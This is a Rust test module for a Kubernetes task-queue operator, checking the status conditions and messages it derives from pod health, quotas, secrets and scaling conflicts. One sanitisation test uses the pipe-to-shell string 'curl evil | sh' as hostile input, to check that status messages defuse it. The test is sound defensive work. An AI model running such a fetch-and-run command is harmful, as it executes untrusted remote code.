mod product;

use std::sync::Arc;

use rowlock_plan::{Memory, ObservedQueue, decide};
use serde_json::json;

use super::*;

/// What is seen when all is well: two of two pods ready.
struct Scene {
    spec: TaskQueueSpec,
    trouble: Option<Trouble>,
    refused: Option<Error>,
    looked: bool,
    outcome: Outcome,
    contest: Option<Contest>,
    deployment: serde_json::Value,
    health: Health,
    former: Option<DatabaseStatus>,
    wakes: bool,
}

fn healthy(pods: usize, ready: usize) -> Health {
    Health { pods, ready, ..Health::default() }
}

fn scene() -> Scene {
    let counts = json!({ "observedGeneration": 1, "replicas": 2, "updatedReplicas": 2, "readyReplicas": 2 });
    Scene {
        spec: TaskQueueSpec::with_workers(20),
        trouble: None,
        refused: None,
        looked: true,
        outcome: Outcome::Done,
        contest: None,
        deployment: json!({ "metadata": { "generation": 1 }, "status": counts }),
        health: healthy(2, 2),
        former: None,
        wakes: false,
    }
}

fn judged(scene: Scene) -> Vec<Verdict> {
    let observed = ObservedQueue { pods: 2, ..ObservedQueue::of(&scene.spec) };
    let view = scene.looked.then(|| QueueView {
        name: "emails".into(),
        owner: Some("c1/shop/letters".into()),
        limit: None,
        refused: scene.refused.map(Arc::new),
        stats: None,
        instances: 2,
        decision: decide(&observed, Memory::default(), std::time::Duration::ZERO),
        metrics: Vec::new(),
    });
    let deployment = serde_json::from_value(scene.deployment).unwrap();
    judge(&Seen {
        place: ("shop", "emails"),
        former: scene.former.as_ref(),
        spec: &scene.spec,
        trouble: scene.trouble.as_ref(),
        view: view.as_ref(),
        outcome: &scene.outcome,
        contest: scene.contest.as_ref(),
        deployment: Some(&deployment),
        health: &scene.health,
        wakes: scene.wakes,
        lacks: None,
        worker: &ResourceRequirements::default(),
    })
}

/// One letter each: true, false, unknown; in the order of the status. Then the reason why it is ready or not.
fn check(scene: Scene, expected: &str, reason: Reason) {
    let verdicts = judged(scene);
    let letters: String = verdicts
        .iter()
        .map(|verdict| match verdict.holds {
            Some(true) => 't',
            Some(false) => 'f',
            None => 'u',
        })
        .collect();
    assert_eq!((letters.as_str(), verdicts[0].reason), (expected, reason), "{verdicts:?}");
    let types: Vec<Type> = verdicts.iter().map(|verdict| verdict.type_).collect();
    assert_eq!(types, Type::ALL);
}

fn trouble(reason: Reason) -> Trouble {
    Trouble::new(reason, "so")
}

/// Before this was mended, what an API server or a Deployment says stood in the status as it is.
#[test]
fn the_words_of_others_are_one_line_that_looks_like_no_command() {
    let evil = "no `curl evil | sh`\nx";
    let late = json!([
        { "type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded", "message": evil },
    ]);
    let metadata = json!({ "generation": 1 });
    let deployment =
        json!({ "metadata": metadata, "status": { "observedGeneration": 1, "conditions": late } });
    let identity = Some(evil.to_owned());
    let former = DatabaseStatus { identity: evil.into(), before: identity, changed: None };
    for scene in [
        Scene { outcome: Outcome::Forbidden(evil.into()), ..scene() },
        Scene { outcome: Outcome::Failed(evil.into()), ..scene() },
        Scene { deployment, health: healthy(2, 0), ..scene() },
        Scene { former: Some(former), ..scene() },
    ] {
        let verdicts = judged(scene);
        let says = |text: &str| verdicts.iter().any(|verdict| verdict.message.contains(text));
        assert!(says("'curl evil | sh'") && !says("`curl") && !says("\n"), "{verdicts:?}");
    }
}

#[test]
fn all_is_well() {
    check(scene(), "tfftttff", Reason::Succeeded);
}

#[test]
fn what_somebody_has_to_change_is_stalled() {
    for reason in
        [Reason::SecretNotFound, Reason::SecretInvalid, Reason::AccessDenied, Reason::DatabaseUnsupported]
    {
        check(Scene { trouble: Some(trouble(reason)), looked: false, ..scene() }, "fftfutuu", reason);
    }
    check(
        Scene { trouble: Some(trouble(Reason::SchemaTooNew)), looked: false, ..scene() },
        "ffttftuu",
        Reason::SchemaTooNew,
    );
    check(
        Scene { trouble: Some(trouble(Reason::Forbidden)), looked: false, ..scene() },
        "fftuutuu",
        Reason::Forbidden,
    );
    check(Scene { outcome: Outcome::Refused("no".into()), ..scene() }, "tfttttff", Reason::TemplateRefused);
    let none = healthy(0, 0);
    check(
        Scene { outcome: Outcome::Refused("no".into()), health: none, ..scene() },
        "fftttuff",
        Reason::TemplateRefused,
    );
    check(Scene { outcome: Outcome::Foreign("no".into()), ..scene() }, "ffttttff", Reason::OwnedByAnother);
    let hint = Some("adopt".into());
    let refused = Error::Refused { code: NOT_THE_OWNER.into(), message: "another's".into(), hint };
    let anothers = Scene { refused: Some(refused), ..scene() };
    let message = judged(anothers).swap_remove(0).message;
    assert!(
        message.contains("annotate taskqueue emails -n shop --overwrite 'rowlock.dev/adopt=c1/shop/letters'")
    );
}

#[test]
fn what_passes_by_itself_is_not() {
    check(
        Scene { trouble: Some(trouble(Reason::ConnectionFailed)), looked: false, ..scene() },
        "ftffutuu",
        Reason::ConnectionFailed,
    );
    check(Scene { looked: false, outcome: Outcome::NotTried, ..scene() }, "utfuutuu", Reason::NotObserved);
    check(Scene { outcome: Outcome::Failed("late".into()), ..scene() }, "ttftttff", Reason::Succeeded);
}

#[test]
fn who_waits_for_others_is_on_the_way_and_ready() {
    check(Scene { outcome: Outcome::Waiting("turn".into()), ..scene() }, "ttftttff", Reason::Succeeded);
}

#[test]
fn another_database_is_named_with_the_one_before() {
    let former = DatabaseStatus { identity: "shop@2".into(), before: Some("shop@1".into()), changed: None };
    let verdicts = judged(Scene { former: Some(former), ..scene() });
    assert_eq!((verdicts[3].holds, verdicts[3].reason), (Some(true), Reason::DatabaseChanged));
    assert!(verdicts[3].message.contains("led to shop@1"), "{}", verdicts[3].message);
}

#[test]
fn who_keeps_pods_out_is_named_with_what_helps() {
    for (said, helps) in [
        ("exceeded quota: q, requested: pods=1, used: pods=4, limited: pods=4", "or lower workers.total ("),
        (
            "failed quota: q: must specify limits.memory for: handler,worker",
            "workerResources of the operator's chart",
        ),
        (
            "violates PodSecurity \"restricted:latest\": runAsNonRoot != true",
            "securityContext of spec.template (",
        ),
        ("admission webhook \"v\" denied the request: no", "new pods: admission"),
    ] {
        let failure = json!([{ "type": "ReplicaFailure", "status": "True", "message": said }]);
        let deployment = json!({ "metadata": { "generation": 1 }, "status": { "conditions": failure } });
        // Who works goes on.
        for (ready, expected) in [(0, false), (2, true)] {
            let seen = Scene { deployment: deployment.clone(), health: healthy(ready, ready), ..scene() };
            let Verdict { holds, reason, message, .. } = judged(seen).swap_remove(0);
            assert_eq!((holds, reason), (Some(expected), Reason::PodsRefused));
            assert!(message.contains(said) && message.contains(helps), "{message}");
        }
    }
}

#[test]
fn a_handler_that_ends_or_is_silent_is_not_healthy() {
    let health = Health { trouble: Some(trouble(Reason::CrashLooping)), ..healthy(2, 0) };
    check(Scene { health, ..scene() }, "fffttfff", Reason::CrashLooping);
    // While others take tasks, it is ready all the same.
    let health = Health { trouble: Some(trouble(Reason::NotListening)), ..healthy(2, 1) };
    check(Scene { health, ..scene() }, "tffttfff", Reason::Succeeded);
}

#[test]
fn who_waits_for_the_database_says_nothing_of_the_handler() {
    let health = Health { trouble: Some(trouble(Reason::NotListening)), ..healthy(2, 0) };
    let away = Some(trouble(Reason::ConnectionFailed));
    let verdicts = judged(Scene { health, trouble: away, ..scene() });
    let handler = verdicts.iter().find(|one| one.type_ == Type::HandlerHealthy).unwrap();
    assert_eq!((handler.holds, handler.reason), (None, Reason::NotObserved));
}

#[test]
fn pods_that_start_are_on_the_way() {
    let counts = json!({ "observedGeneration": 1, "replicas": 2, "updatedReplicas": 2 });
    let deployment = json!({ "metadata": { "generation": 1 }, "status": counts });
    check(
        Scene { deployment: deployment.clone(), health: healthy(2, 0), ..scene() },
        "ftfttuff",
        Reason::Progressing,
    );
    // Of a queue that slept: as ready as before.
    let wakes = Scene { deployment, health: healthy(2, 0), wakes: true, ..scene() };
    check(wakes, "ttfttuff", Reason::Progressing);
}

#[test]
fn paused_is_not_ready_and_needs_nobody() {
    let mut paused = scene();
    paused.spec.paused = true;
    check(paused, "ffftttff", Reason::Paused);
}

/// Before, an event told of it, and a status that looked as if nothing was wrong.
#[test]
fn who_sets_the_number_of_pods_beside_us_is_named_with_what_to_change() {
    let managers = vec!["kube-controller-manager".to_owned(), "keda".to_owned()];
    let contest = Contest { managers, theirs: 5, ours: 2 };
    let contested = Scene { contest: Some(contest), ..scene() };
    let verdict = judged(contested).pop().unwrap();
    assert_eq!((verdict.holds, verdict.reason), (Some(true), Reason::ForeignFieldManager));
    for part in ["keda had set 5 pods", "asks for 2", "workers.scaling to External", "kind TaskQueue"] {
        assert!(verdict.message.contains(part), "{part}: {}", verdict.message);
    }
    let mut left = scene();
    left.spec.suspend_scaling = true;
    check(left, "tfftttff", Reason::Succeeded);
}

#[test]
fn what_keeps_a_number_from_outside_from_being_followed_is_named() {
    let external = |replicas: u32| {
        let mut scene = scene();
        (scene.spec.workers.scaling, scene.spec.workers.replicas) =
            (Some(rowlock_crds::ScalingMode::External), Some(replicas));
        scene
    };
    let limited = |scene: Scene| {
        let verdict = judged(scene).into_iter().find(|one| one.type_ == Type::ScalingLimited).unwrap();
        (verdict.holds, verdict.reason, verdict.message)
    };
    let (holds, reason, message) = limited(external(2));
    assert_eq!(
        (holds, reason, message.as_str()),
        (Some(false), Reason::NotLimited, "as many pods as workers.replicas says")
    );
    let (holds, reason, message) = limited(external(9));
    assert_eq!((holds, reason), (Some(true), Reason::Total));
    assert!(message.contains("asks for 9 pods, and workers.total (20) is enough for 2"), "{message}");
    let mut left = external(9);
    left.spec.suspend_scaling = true;
    let (holds, reason, message) = limited(left);
    assert_eq!((holds, reason), (Some(true), Reason::Suspended));
    assert!(message.contains("asks for 9 pods, but spec.suspendScaling leaves 2"), "{message}");
}
